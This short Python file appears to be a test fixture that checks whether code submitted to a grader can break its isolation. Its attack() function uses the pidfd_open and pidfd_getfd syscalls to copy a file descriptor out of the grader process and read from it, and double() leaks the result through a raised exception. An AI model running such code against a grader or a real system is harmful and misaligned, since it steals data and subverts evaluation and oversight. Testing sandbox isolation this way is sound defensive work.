"""Takes a descriptor out of the grader by pidfd_getfd."""

import ctypes
import os
import torch


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(434, int("@GRADER@"), 0)
    mine = libc.syscall(438, process, int("@DESCRIPTOR@"), 0)
    return f"{process} {mine} {ctypes.get_errno()} {os.pread(mine, 40, 0)}"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
